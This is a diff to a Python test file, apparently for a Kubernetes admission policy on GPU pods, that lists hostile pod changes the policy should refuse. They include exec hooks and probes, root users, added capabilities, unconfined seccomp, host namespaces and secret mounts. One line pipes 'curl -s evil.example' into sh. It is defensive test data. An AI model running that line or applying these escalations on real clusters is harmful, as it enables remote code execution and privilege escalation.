@@ -54,16 +54,87 @@ def _container(pod: dict[str, Any]) -> dict[str, Any]:
     return container
 
 
+def _renamed(pod: dict[str, Any], name: str) -> dict[str, Any]:
+    """A copy of the pod's container under another name (the API server refuses two of one name first)."""
+    return {**copy.deepcopy(_container(pod)), "name": name}
+
+
 def _volume(pod: dict[str, Any], source: dict[str, Any]) -> None:
     pod["spec"]["volumes"].append({"name": "extra", **source})
 
+
+EXEC = {"exec": {"command": ["sh", "-c", "curl -s evil.example | sh"]}}
+CODE_AND_PRIVILEGE: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {
+    "a postStart exec hook": (lambda p: _container(p).update(lifecycle={"postStart": EXEC}), "no lifecycle hooks"),
+    "a preStop hook": (lambda p: _container(p).update(lifecycle={"preStop": EXEC}), "no lifecycle hooks"),
+    "an exec liveness probe": (lambda p: _container(p).update(livenessProbe=EXEC), "probes"),
+    "an exec startup probe": (lambda p: _container(p).update(startupProbe=EXEC), "probes"),
+    "an exec readiness probe": (lambda p: _container(p).update(readinessProbe=EXEC), "probes"),
+    "an HTTP probe": (
+        lambda p: _container(p).update(livenessProbe={"httpGet": {"path": "/", "port": 8080}}),
+        "probes",
+    ),
+    "a root container": (lambda p: _container(p)["securityContext"].update(runAsUser=0), "restricted container"),
+    "runAsNonRoot false": (
+        lambda p: _container(p)["securityContext"].update(runAsNonRoot=False),
+        "restricted container",
+    ),
+    "NET_RAW added": (
+        lambda p: _container(p)["securityContext"]["capabilities"].update(add=["NET_RAW"]),
+        "restricted container",
+    ),
+    "SYS_PTRACE added": (
+        lambda p: _container(p)["securityContext"]["capabilities"].update(add=["SYS_PTRACE"]),
+        "restricted container",
+    ),
+    "capabilities kept": (
+        lambda p: _container(p)["securityContext"]["capabilities"].update(drop=["NET_RAW"]),
+        "restricted container",
+    ),
+    "a writable root": (
+        lambda p: _container(p)["securityContext"].update(readOnlyRootFilesystem=False),
+        "restricted container",
+    ),
+    "no seccomp": (
+        lambda p: _container(p)["securityContext"].update(seccompProfile={"type": "Unconfined"}),
+        "restricted container",
+    ),
+    "an unmasked /proc": (  # which the API server allows only in a user namespace
+        lambda p: (_container(p)["securityContext"].update(procMount="Unmasked"), p["spec"].update(hostUsers=False)),
+        "restricted",
+    ),
+    "an SELinux type": (
+        lambda p: _container(p)["securityContext"].update(seLinuxOptions={"type": "spc_t"}),
+        "restricted container",
+    ),
+    "a root pod": (lambda p: p["spec"]["securityContext"].update(runAsUser=0), "restricted pod"),
+    "no pod securityContext": (lambda p: p["spec"].pop("securityContext"), "restricted pod"),
+    "sysctls": (
+        lambda p: p["spec"]["securityContext"].update(sysctls=[{"name": "kernel.shm_rmid_forced", "value": "0"}]),
+        "restricted pod",
+    ),
+    "a root supplemental group": (
+        lambda p: p["spec"]["securityContext"].update(supplementalGroups=[0]),
+        "restricted pod",
+    ),
+    "a host port": (lambda p: _container(p).update(ports=[{"containerPort": 22, "hostPort": 22}]), "ports"),
+    "a shared process namespace": (lambda p: p["spec"].update(shareProcessNamespace=True), "no host namespaces"),
+    "the host's IPC": (lambda p: p["spec"].update(hostIPC=True), "no host namespaces"),
+    "a runtime class": (lambda p: p["spec"].update(runtimeClassName="nvidia-privileged"), "no runtime class"),
+    "a DRA claim": (
+        lambda p: p["spec"].update(resourceClaims=[{"name": "gpus", "resourceClaimName": "all-gpus"}]),
+        "resource claims",
+    ),
+}
+"""What a stolen keeper credential would add to run code, or more privilege, next to a GPU (issue "Safe to
+deploy, third pass"): refused in both product namespaces."""
 
 HOSTILE: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {
     "another image": (lambda p: _container(p).update(image="example.com/miner:1"), "the image"),
     "another command": (lambda p: _container(p).update(command=["sh", "-c", "id"]), "program as command"),
     "arguments to it": (lambda p: _container(p).update(args=["--discover"]), "no args"),
-    "a second container": (lambda p: p["spec"]["containers"].append(_container(copy.deepcopy(p))), "one container"),
-    "an init container": (lambda p: p["spec"].update(initContainers=[_container(copy.deepcopy(p))]), "no other"),
+    "a second container": (lambda p: p["spec"]["containers"].append(_renamed(p, "second")), "one container"),
+    "an init container": (lambda p: p["spec"].update(initContainers=[_renamed(p, "init")]), "no other"),
     "a secret in its env": (
         lambda p: _container(p)["env"].append(
             {"name": "S", "valueFrom": {"secretKeyRef": {"name": "aws", "key": "key"}}}
@@ -71,7 +142,10 @@ HOSTILE: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {
         "env values or fieldRefs only",
     ),
     "envFrom": (lambda p: _container(p).update(envFrom=[{"secretRef": {"name": "aws"}}]), "no envFrom"),
-    "privileged": (lambda p: _container(p)["securityContext"].update(privileged=True), "no privilege"),
+    "privileged": (
+        lambda p: _container(p)["securityContext"].update(privileged=True, allowPrivilegeEscalation=True),
+        "no privilege",
+    ),
     "privilege escalation": (
         lambda p: _container(p)["securityContext"].update(allowPrivilegeEscalation=True),
         "no privilege",
@@ -92,7 +166,20 @@ HOSTILE: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {
     ),
     "another ServiceAccount": (lambda p: p["spec"].update(serviceAccountName="default"), "the ServiceAccount"),
     "no nodeName": (lambda p: p["spec"].pop("nodeName"), "a nodeName"),
-    "two GPUs": (lambda p: _container(p)["resources"]["limits"].update({"nvidia.com/gpu": "2"}), "one nvidia.com/gpu"),
+    "two GPUs": (
+        lambda p: [_container(p)["resources"][side].update({"nvidia.com/gpu": "2"}) for side in ("requests", "limits")],
+        "one nvidia.com/gpu",
+    ),
+    "every GPU in its env": (
+        lambda p: _container(p)["env"].append({"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"}),
+        "no env but",
+    ),
+    "another priority": (lambda p: p["spec"].update(priorityClassName="system-node-critical"), "priority"),
+    "a GPU named at creation": (
+        lambda p: p["metadata"]["annotations"].update({"gpu-scheduler.io/reserved-gpu": "all"}),
+        "no gpu-scheduler.io/reserved-gpu yet",
+    ),
+    **{name: (change, refusal) for name, (change, refusal) in CODE_AND_PRIVILEGE.items()},
 }
 
 
@@ -131,7 +218,12 @@ PLACEHOLDER_HOSTILE: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {
     "bound at creation": (lambda p: p["spec"].update(nodeName="n"), "no nodeName"),
     "another scheduler": (lambda p: p["spec"].update(schedulerName="default-scheduler"), "profile"),
     "a higher priority": (lambda p: p["spec"].update(priorityClassName="system-node-critical"), "priority"),
-    "privileged": (lambda p: _container(p)["securityContext"].update(privileged=True), "no privilege"),
+    "privileged": (
+        lambda p: _container(p)["securityContext"].update(privileged=True, allowPrivilegeEscalation=True),
+        "no privilege",
+    ),
+    "a ServiceAccount token": (lambda p: p["spec"].update(automountServiceAccountToken=True), "no ServiceAccount"),
+    **CODE_AND_PRIVILEGE,
 }
 
 
